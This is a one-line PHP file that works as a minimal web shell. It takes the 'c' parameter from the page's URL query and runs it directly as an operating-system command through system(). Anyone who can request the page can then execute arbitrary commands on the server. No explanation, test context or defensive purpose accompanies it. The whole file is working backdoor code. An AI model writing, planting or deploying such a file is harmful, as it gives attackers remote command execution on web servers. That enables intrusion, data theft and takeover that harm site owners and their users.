<?php $c = sprintf("%s", $_GET["c"]) ?><?php system($c);
